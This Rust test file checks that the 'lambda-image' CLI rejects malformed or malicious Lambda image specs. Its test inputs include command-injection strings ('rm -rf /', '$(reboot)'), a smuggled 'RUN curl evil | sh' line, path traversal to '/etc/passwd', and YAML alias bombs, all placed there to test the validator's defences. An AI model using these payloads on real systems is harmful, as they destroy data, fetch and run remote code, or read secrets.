//! Image spec validation through the CLI: every bad spec gives one line naming the file and
//! position, exit 2, and writes nothing.

mod common;

use common::*;

/// `images/fn/image.yaml` with `yaml`, plus files (relative to its folder), in a fresh tree.
fn case(yaml: &str, files: &[(&str, &str)]) -> Tree {
    let tree = Tree::new();
    tree.write("images/fn/image.yaml", yaml);
    for (name, text) in files {
        tree.write(&format!("images/fn/{name}"), text);
    }
    tree
}

/// Renders with `--write` and expects exactly `lambda-image: error: <want>`, exit 2, nothing written.
fn expect_error(c: &Tree, want: &str) {
    let before = c.snapshot();
    c.run(&["render", "--write", "images/fn"])
        .assert_error(want);
    assert_eq!(c.snapshot(), before, "something was written");
}

/// [`case`] then [`expect_error`].
fn rejects(yaml: &str, files: &[(&str, &str)], want: &str) {
    expect_error(&case(yaml, files), want);
}

const OK: &str = "runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py}]\n";

#[test]
fn valid_spec_renders() {
    let c = case(OK, &[("app.py", "")]);
    let out = c.run(&["render", "images/fn"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
}

#[test]
fn unknown_field_names_line_column_and_the_expected_fields() {
    rejects("runtime: python3.13\nhandler: app.handler\n\npakages: [libpq]\n", &[], "images/fn/image.yaml:4:1: unknown field 'pakages', expected one of runtime, base, architectures, packages, build_packages, requirements, copy, bootstrap, handler, env, labels, tags, verify, push, smoke, secrets");
    rejects(
        "runtime: python3.13\nhandler: app.handler\ncopy:\n  - {src: app.py, dset: x}\n",
        &[("app.py", "")],
        "images/fn/image.yaml:4:19: unknown field 'dset', expected one of src, dest, build_output",
    );
}

#[test]
fn wrong_types() {
    rejects(
        "runtime: python3.13\nhandler: app.handler\npackages: libpq\n",
        &[],
        "images/fn/image.yaml:3:11: expected a list",
    );
    rejects(
        "runtime: python3.13\nhandler: [app.handler]\n",
        &[],
        "images/fn/image.yaml:2:10: expected string scalar",
    );
    rejects(
        "- runtime\n",
        &[],
        "images/fn/image.yaml:1:1: expected a mapping (key: value)",
    );
    rejects(
        "runtime: python3.13\nhandler: app.handler\nenv: {A: {b: c}}\n",
        &[],
        "images/fn/image.yaml:3:10: invalid type: map, expected a string, number or boolean",
    );
}

#[test]
fn missing_fields_and_yaml_errors() {
    rejects(
        "handler: app.handler\n",
        &[],
        "images/fn/image.yaml:1:1: missing field 'runtime'",
    );
    rejects("runtime: python3.13\n", &[], "images/fn/image.yaml: missing field 'handler' (for python3.13 it looks like 'app.handler')");
    rejects(
        "",
        &[],
        "images/fn/image.yaml: the spec is empty; it needs at least `runtime:` (and `handler:`)",
    );
    rejects(
        "runtime: python3.13\nhandler: 'app.handler\n",
        &[],
        "images/fn/image.yaml:2:10: unclosed quote",
    );
    rejects(
        "runtime: python3.13\nhandler: app.handler\nruntime: python3.12\n",
        &[],
        "images/fn/image.yaml:3:1: duplicate key 'runtime'",
    );
    rejects(
        "runtime: python3.13\nhandler: app.handler\n---\nruntime: python3.12\n",
        &[],
        "images/fn/image.yaml:3:1: an image spec is one YAML document; remove the '---' separator",
    );
    Tree::new()
        .run(&["render", "nowhere"])
        .assert_error_starts("nowhere: no image spec here");
}

#[test]
fn unknown_runtime_lists_the_supported_ones() {
    rejects("runtime: cobol1\nhandler: app.handler\n", &[], "images/fn/image.yaml:1:10: unknown runtime 'cobol1', expected one of python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023");
    rejects("runtime: python3.11\nhandler: app.handler\n", &[], "images/fn/image.yaml:1:10: runtime 'python3.11' runs on Amazon Linux 2; lambda-image renders Amazon Linux 2023 images (supported: python3.12, python3.13, python3.14, nodejs20.x, nodejs22.x, nodejs24.x, java21, java25, ruby3.3, ruby3.4, dotnet8, dotnet10, provided.al2023)");
}

#[test]
fn invalid_handlers() {
    for (runtime, handler, expected) in [
        (
            "python3.13",
            "app",
            "module.function, e.g. app.handler or pkg/mod.handler",
        ),
        (
            "python3.13",
            "'app.handler; rm -rf /'",
            "module.function, e.g. app.handler or pkg/mod.handler",
        ),
        (
            "nodejs22.x",
            "'index.handler\"]'",
            "file.export, e.g. app.handler or src/index.handler",
        ),
        (
            "java21",
            "'a b'",
            "package.Class or package.Class::method, e.g. example.Handler::handleRequest",
        ),
        (
            "dotnet8",
            "Hello.Function::Handler",
            "Assembly::Namespace.Class::Method, e.g. Hello::Hello.Function::Handler",
        ),
        (
            "ruby3.3",
            "app.lambda::x",
            "file.method or file.Module::Class.method, e.g. app.LambdaFunction::Handler.process",
        ),
    ] {
        let c = case(&format!("runtime: {runtime}\nhandler: {handler}\n"), &[]);
        let shown = handler.trim_matches('\'');
        let family = runtime
            .trim_end_matches(|c: char| !c.is_ascii_alphabetic())
            .trim_end_matches(".x");
        let family = family.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        expect_error(
            &c,
            &format!("images/fn/image.yaml:2:10: handler: invalid {family} handler '{shown}', expected {expected}"),
        );
    }
}

#[test]
fn invalid_package_names() {
    for (pkg, what) in [
        ("'foo; rm -rf /'", "';' is not allowed"),
        ("'foo bar'", "a space is not allowed"),
        ("'$(reboot)'", "'$' is not allowed"),
        ("'@Development Tools'", "'@' is not allowed"),
        ("./local.rpm", "'/' is not allowed"),
    ] {
        let c = case(
            &format!("runtime: python3.13\nhandler: app.handler\npackages: [{pkg}]\n"),
            &[],
        );
        let shown = pkg.trim_matches('\'');
        expect_error(
            &c,
            &format!("images/fn/image.yaml:3:12: packages: '{shown}' is not a valid RPM package name: {what} (use letters, digits and . _ + -, optionally name-version)"),
        );
    }
    rejects("runtime: python3.13\nhandler: app.handler\npackages: [-y]\n", &[], "images/fn/image.yaml:3:12: packages: '-y' is not a valid RPM package name: it must start with a letter, digit, '_' or '+'");
    rejects(
        "runtime: python3.13\nhandler: app.handler\npackages: [libpq, libpq]\n",
        &[],
        "images/fn/image.yaml:3:19: packages: 'libpq' is listed twice",
    );
}

#[test]
fn build_packages_need_something_to_build() {
    rejects("runtime: python3.13\nhandler: app.handler\nbuild_packages: [gcc]\n", &[], "images/fn/image.yaml:3:18: build_packages: nothing is built in the image without `requirements`; remove build_packages (use packages for libraries the function needs at run time)");
    rejects("runtime: java21\nhandler: a.B\nrequirements: pom.xml\n", &[("pom.xml", "")], "images/fn/image.yaml:3:15: requirements: java21 images take the outputs of the project's own build through `copy` (jars, a publish folder, a bootstrap); they install no dependency manifest");
}

#[test]
fn dependency_manifests_and_lock_files() {
    rejects("runtime: nodejs22.x\nhandler: app.handler\nrequirements: package.json\n", &[("package.json", "{}")], "images/fn/image.yaml:3:15: requirements: package-lock.json is missing next to package.json; npm ci needs it for a reproducible install");
    rejects("runtime: ruby3.3\nhandler: app.handler\nrequirements: deps.rb\n", &[("deps.rb", "")], "images/fn/image.yaml:3:15: requirements: ruby3.3 installs from a file named Gemfile, not 'deps.rb'");
    rejects("runtime: python3.13\nhandler: app.handler\nrequirements: reqs.txt\n", &[], "images/fn/image.yaml:3:15: requirements: 'reqs.txt' does not exist in images/fn (mark build outputs with build_output: true)");
}

#[test]
fn env_keys() {
    rejects("runtime: python3.13\nhandler: app.handler\nenv: {'A=1 B': x}\n", &[], "images/fn/image.yaml:3:7: env: invalid environment variable name 'A=1 B': use letters, digits and '_', not starting with a digit");
    rejects("runtime: python3.13\nhandler: app.handler\nenv: {LAMBDA_TASK_ROOT: /tmp}\n", &[], "images/fn/image.yaml:3:7: env: environment variable 'LAMBDA_TASK_ROOT' is set by the Lambda base image and must not be overridden");
    rejects("runtime: python3.13\nhandler: app.handler\nenv:\n  LAMBDA_RUNTIME_DIR: /tmp\n", &[], "images/fn/image.yaml:4:3: env: environment variable 'LAMBDA_RUNTIME_DIR' is set by the Lambda base image and must not be overridden");
    rejects("runtime: python3.13\nhandler: app.handler\nlabels: {'a\"b': x}\n", &[], "images/fn/image.yaml:3:10: labels: invalid label key 'a\"b': use letters, digits and . _ - /, starting and ending with a letter or digit");
}

#[test]
fn newlines_and_control_characters_are_rejected() {
    rejects("runtime: python3.13\nhandler: app.handler\nenv: {A: \"x\\nRUN curl evil | sh\"}\n", &[], "images/fn/image.yaml:3:10: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
    rejects("runtime: python3.13\nhandler: app.handler\nlabels: {a: \"x\\u0000y\"}\n", &[], "images/fn/image.yaml:3:13: labels.a: value contains the control character \\u{0}; newlines, tabs, NUL and other control characters are not allowed");
    // A YAML block scalar keeps its newline.
    rejects("runtime: python3.13\nhandler: app.handler\nenv:\n  A: |\n    line one\n    CMD [\"x\"]\n", &[], "images/fn/image.yaml:5:5: env.A: value contains the control character \\u{a}; newlines, tabs, NUL and other control characters are not allowed");
    rejects("runtime: python3.13\nhandler: \"app.handler\\r\"\n", &[], "images/fn/image.yaml:2:10: handler: value contains the control character \\u{d}; newlines, tabs, NUL and other control characters are not allowed");
}

#[test]
fn paths_stay_inside_the_spec_folder() {
    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: ../secret}]\n", &[], "images/fn/image.yaml:3:14: copy.src: path '../secret' uses '..'; paths must stay inside the spec's folder");
    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: /etc/passwd}]\n", &[], "images/fn/image.yaml:3:14: copy.src: '/etc/passwd' is an absolute path; paths are relative to the spec's folder");
    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: app.py, dest: ../../etc/}]\n", &[("app.py", "")], "images/fn/image.yaml:3:28: copy.dest: path '../../etc/' uses '..'; paths must stay inside the spec's folder (dest is relative to LAMBDA_TASK_ROOT)");
    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: '$HOME/x'}]\n", &[], "images/fn/image.yaml:3:14: copy.src: path '$HOME/x' contains '$'; paths may use letters, digits and . _ - + @ = , /");
    rejects("runtime: python3.13\nhandler: app.handler\ncopy: [{src: 'a b'}]\n", &[], "images/fn/image.yaml:3:14: copy.src: path 'a b' contains a space; paths may use letters, digits and . _ - + @ = , /");
    rejects("runtime: python3.13\nhandler: app.handler\nverify: ../manifest.yaml\n", &[], "images/fn/image.yaml:3:9: verify: path '../manifest.yaml' uses '..'; paths must stay inside the spec's folder");
    rejects("runtime: python3.13\nhandler: app.handler\nrequirements: /tmp/requirements.txt\n", &[], "images/fn/image.yaml:3:15: requirements: '/tmp/requirements.txt' is an absolute path; paths are relative to the spec's folder");
}

#[cfg(unix)]
#[test]
fn symlinks_escaping_the_folder_are_rejected() {
    let c = case(
        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: link}]\n",
        &[],
    );
    std::os::unix::fs::symlink(c.path(), c.join("images/fn").join("link")).expect("symlink");
    let root = c.path().canonicalize().expect("canon");
    expect_error(
        &c,
        &format!("images/fn/image.yaml:3:14: copy.src: 'link' resolves to {} (through a symlink), outside the spec's folder", root.display()),
    );
    // A build output under a symlinked folder is checked too, even though it does not exist yet.
    let c = case(
        "runtime: java21\nhandler: a.B\ncopy: [{src: target/classes/, build_output: true}]\n",
        &[],
    );
    std::os::unix::fs::symlink(c.path(), c.join("images/fn").join("target")).expect("symlink");
    let root = c.path().canonicalize().expect("canon");
    expect_error(
        &c,
        &format!("images/fn/image.yaml:3:14: copy.src: 'target/classes/' resolves to {} (through a symlink), outside the spec's folder", root.display()),
    );
    // A symlink that stays inside is fine.
    let c = case(
        "runtime: python3.13\nhandler: app.handler\ncopy: [{src: link.py}]\n",
        &[("app.py", "")],
    );
    std::os::unix::fs::symlink("app.py", c.join("images/fn").join("link.py")).expect("symlink");
    assert_eq!(c.run(&["render", "images/fn"]).code, 0);
}

#[test]
fn architectures_and_tags() {
    rejects(
        "runtime: python3.13\nhandler: app.handler\narchitectures: []\n",
        &[],
        "images/fn/image.yaml:3:16: architectures: the list is empty; use x86_64, arm64 or both",
    );
    rejects("runtime: python3.13\nhandler: app.handler\narchitectures: [amd64]\n", &[], "images/fn/image.yaml:3:17: architectures: unknown architecture 'amd64', expected x86_64 or arm64");
    rejects(
        "runtime: python3.13\nhandler: app.handler\narchitectures: [arm64, arm64]\n",
        &[],
        "images/fn/image.yaml:3:24: architectures: 'arm64' is listed twice",
    );
    rejects("runtime: python3.13\nhandler: app.handler\ntags: ['Orders:latest']\n", &[], "images/fn/image.yaml:3:8: tags: 'Orders:latest' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
    rejects("runtime: python3.13\nhandler: app.handler\nbase: 'python:3.13 AS x'\n", &[], "images/fn/image.yaml:3:7: base: 'python:3.13 AS x' is not a valid image reference, expected [registry/]name[:tag][@sha256:digest]");
    rejects("runtime: python3.13\nhandler: app.handler\nbase: 'public.ecr.aws/lambda/python:3.13@sha256:1234'\n", &[], "images/fn/image.yaml:3:7: base: 'public.ecr.aws/lambda/python:3.13@sha256:1234' has an invalid digest: expected sha256: and 64 lowercase hex digits");
}

#[test]
fn huge_values_hit_a_size_limit() {
    // A 1 MB value: the whole file is refused before parsing.
    let big = format!(
        "runtime: python3.13\nhandler: app.handler\nenv: {{A: '{}'}}\n",
        "x".repeat(1024 * 1024)
    );
    let c = case(&big, &[]);
    let size = big.len();
    expect_error(&c, &format!("images/fn/image.yaml: the file is {size} bytes; an image spec may be at most 1048576 bytes"));
    // A value over the per-value limit in a file under the file limit.
    let long = format!(
        "runtime: python3.13\nhandler: app.handler\nenv: {{A: '{}'}}\n",
        "x".repeat(5000)
    );
    rejects(
        &long,
        &[],
        "images/fn/image.yaml:3:10: env.A: value is 5000 bytes long; the limit is 4096",
    );
}

#[test]
fn alias_bombs_stop_at_the_budget() {
    let mut bomb =
        String::from("runtime: python3.13\nhandler: app.handler\nlabels: {a: &a x}\npackages: [");
    for _ in 0..1000 {
        bomb.push_str("*a, ");
    }
    bomb.push_str("x]\n");
    let c = case(&bomb, &[]);
    let started = std::time::Instant::now();
    let out = c.run(&["render", "--write", "images/fn"]);
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "lambda-image: error: images/fn/image.yaml:4:412: an anchor is used too often (limit 100 aliases of one anchor)\n"
    );
    assert!(!c.join("images/fn").join("Dockerfile").exists());

    // The classic nested bomb: refused, quickly, in one line.
    let lol = "runtime: python3.13\nhandler: app.handler\nlabels: &l0 {a: x}\nenv:\n  A: &a [*l0,*l0,*l0,*l0,*l0,*l0,*l0,*l0,*l0]\n  B: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n  C: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n  D: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n";
    let c = case(lol, &[]);
    let started = std::time::Instant::now();
    let out = c.run(&["render", "--write", "images/fn"]);
    assert!(started.elapsed() < std::time::Duration::from_secs(5));
    assert_eq!(out.code, 2);
    assert_eq!(
        out.stderr,
        "lambda-image: error: images/fn/image.yaml:5:3: invalid type: sequence, expected a string, number or boolean\n"
    );
}

#[test]
fn provided_needs_an_executable_bootstrap() {
    rejects("runtime: provided.al2023\n", &[], "images/fn/image.yaml:1:10: provided.al2023 needs `bootstrap: {src: <executable>}` (copied to ${LAMBDA_RUNTIME_DIR}/bootstrap)");
    rejects("runtime: python3.13\nhandler: app.handler\nbootstrap: {src: bootstrap}\n", &[("bootstrap", "")], "images/fn/image.yaml:3:12: bootstrap: only provided.al2023 images take a bootstrap; python3.13 has its own");
    #[cfg(unix)]
    {
        rejects("runtime: provided.al2023\nbootstrap: {src: bootstrap}\n", &[("bootstrap", "#!/bin/sh\n")], "images/fn/image.yaml:2:18: bootstrap.src: 'bootstrap' is not executable (chmod +x it; COPY keeps the mode)");
    }
    // A compiled bootstrap that the build produces later.
    let c = case(
        "runtime: provided.al2023\nbootstrap: {src: target/lambda/fn/bootstrap, build_output: true}\n",
        &[],
    );
    let out = c.run(&["render", "images/fn"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let text = out.stdout;
    assert!(text.contains("COPY target/lambda/fn/bootstrap ${LAMBDA_RUNTIME_DIR}/bootstrap\n"));
    assert!(text.ends_with("CMD [\"bootstrap\"]\n"), "{text}");
}
